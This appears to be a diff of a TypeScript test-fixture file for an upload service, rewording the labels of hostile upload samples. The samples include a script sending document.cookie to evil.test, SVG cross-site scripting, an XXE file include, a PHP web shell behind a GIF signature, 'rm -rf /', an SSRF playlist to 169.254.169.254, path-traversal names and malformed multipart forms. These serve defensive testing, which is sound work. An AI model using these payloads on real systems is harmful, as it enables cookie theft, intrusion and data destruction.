@@ -1,23 +1,23 @@
-// Bytes, names and forms that are no photos.
+// Hostile bytes, names and forms for uploads.
 import { smallPhoto } from "../../support/service/small-photo.js";
 
 export const text = (content: string) => Buffer.from(content);
-/** A picture, and behind it what a browser might take for a page. */
+/** Appended to an image, a browser might take it for a page. */
 export const SCRIPT = "<html><script>fetch('https://evil.test/'+document.cookie)</script>";
 
-/** What calls itself a photo. */
+/** Files that are not photos. */
 export const NO_PHOTOS: [what: string, bytes: () => Buffer][] = [
   [
     "SVG with a script",
     () => text(`<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`),
   ],
-  ["SVG behind a byte order mark", () => text("\ufeff<svg xmlns='http://www.w3.org/2000/svg'/>")],
+  ["SVG after a byte order mark", () => text("\ufeff<svg xmlns='http://www.w3.org/2000/svg'/>")],
   [
-    "SVG behind blanks and a comment",
+    "SVG after whitespace and a comment",
     () => text("\n\n <!-- x --><svg xmlns='http://www.w3.org/2000/svg'/>"),
   ],
   [
-    "SVG that includes a file of the disk",
+    "SVG that includes a local file",
     () =>
       text(
         `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM ` +
@@ -26,7 +26,7 @@ export const NO_PHOTOS: [what: string, bytes: () => Buffer][] = [
       ),
   ],
   ["SVG in gzip", () => Buffer.from("H4sIAAAAAAAAA7PJKEkFAAAA//8DAAAA", "base64")],
-  ["a page", () => text(`<!doctype html>${SCRIPT}`)],
+  ["an HTML page", () => text(`<!doctype html>${SCRIPT}`)],
   ["a PDF", () => text("%PDF-1.7\n1 0 obj <</OpenAction <</S /JavaScript>>>> endobj")],
   ["PostScript", () => text("%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) (r) file")],
   [
@@ -38,37 +38,40 @@ export const NO_PHOTOS: [what: string, bytes: () => Buffer][] = [
       ),
   ],
   [
-    "a playlist that names an address",
+    "a playlist with a URL",
     () => text("#EXTM3U\n#EXTINF:1,\nhttp://169.254.169.254/latest/meta-data/"),
   ],
   ["a program", () => Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46]), Buffer.alloc(200)])],
   ["a ZIP", () => Buffer.concat([text("PK\u0003\u0004"), Buffer.alloc(200)])],
   ["a shell script", () => text("#!/bin/sh\nrm -rf /\n")],
-  ["a web shell behind GIF's first letters", () => text("GIF89a<?php system($_GET['c']); ?>")],
+  ["a web shell after the signature of GIF", () => text("GIF89a<?php system($_GET['c']); ?>")],
   [
-    "a page behind JPEG's first bytes",
+    "an HTML page after the signature of JPEG",
     () => Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), text(SCRIPT)]),
   ],
   [
-    "a page behind PNG's first bytes",
+    "an HTML page after the signature of PNG",
     () => Buffer.concat([Buffer.from("89504e470d0a1a0a", "hex"), text(SCRIPT)]),
   ],
-  ["a WebP of no length", () => text("RIFF\0\0\0\0WEBP")],
+  ["a WebP of length zero", () => text("RIFF\0\0\0\0WEBP")],
   ["an AVIF of one box", () => Buffer.from("0000001c66747970617669660000000061766966", "hex")],
-  ["a TIFF whose directory is itself", () => Buffer.from("49492a0008000000ffff08000000", "hex")],
+  [
+    "a TIFF whose directory refers to itself",
+    () => Buffer.from("49492a0008000000ffff08000000", "hex"),
+  ],
   ["a BMP", () => Buffer.concat([text("BM"), Buffer.alloc(60)])],
   ["a thousand zeros", () => Buffer.alloc(1000)],
   ["one byte", () => Buffer.from([0xff])],
 ];
 
 export const NAMES: [what: string, name: string, kept: RegExp][] = [
-  ["climbs", "../../../../etc/cron.d/x", /^x$/],
-  ["climbs as Windows does", "..\\..\\windows\\win.ini", /^win\.ini$/],
-  ["is a path from the root", "/etc/passwd", /^passwd$/],
-  ["is two points", "..", /^/],
+  ["climbs out of its folder", "../../../../etc/cron.d/x", /^x$/],
+  ["climbs out of its folder as on Windows", "..\\..\\windows\\win.ini", /^win\.ini$/],
+  ["is an absolute path", "/etc/passwd", /^passwd$/],
+  ["is two dots", "..", /^/],
   ["has a NUL before its end", "a.php\0.png", /^a\.php\.png$/],
   ["has a line end and a header in it", "a.png\r\nset-cookie: x=1", /^a\.pngset-cookie: x=1$/],
-  ["turns the reading round", "a\u202egnp.exe", /^agnp\.exe$/],
+  ["reverses the reading direction", "a\u202egnp.exe", /^agnp\.exe$/],
   ["has markup in it", "<img src=x onerror=alert(1)>.png", /^<img src=x onerror=alert\(1\)>\.png$/],
   ["has quotes in it", "a\";filename*=UTF-8''evil.html", /^a";/],
   ["has 5,000 characters", "x".repeat(5000), /^x{200}$/],
@@ -105,7 +108,7 @@ export const FORMS: [what: string, body: () => Buffer][] = [
     () => Buffer.concat([part([disposition("field")], "x".repeat(100_000)), END]),
   ],
   [
-    "a hundred headers on its part",
+    "a part with 100 headers",
     () =>
       Buffer.concat([
         part(
@@ -116,7 +119,7 @@ export const FORMS: [what: string, body: () => Buffer][] = [
       ]),
   ],
   [
-    "a header of 60 kB on its part",
+    "a part with a header of 60 kB",
     () => Buffer.concat([part([disposition("file", "a".repeat(60_000))], "no photo"), END]),
   ],
   [
@@ -132,7 +135,7 @@ export const FORMS: [what: string, body: () => Buffer][] = [
     () => Buffer.concat([part([disposition("constructor")], "x"), END]),
   ],
   [
-    "a form inside its form",
+    "a form inside a part",
     () =>
       Buffer.concat([
         part(
@@ -153,7 +156,7 @@ export const FORMS: [what: string, body: () => Buffer][] = [
         END,
       ]),
   ],
-  ["no end", () => part([disposition("file", "a.png")], text("GIF89a"))],
-  ["nothing but boundaries", () => text("--x\r\n".repeat(5000))],
-  ["a boundary that never comes", () => text("x".repeat(50_000))],
+  ["a missing end", () => part([disposition("file", "a.png")], text("GIF89a"))],
+  ["only boundaries", () => text("--x\r\n".repeat(5000))],
+  ["a missing boundary", () => text("x".repeat(50_000))],
 ];
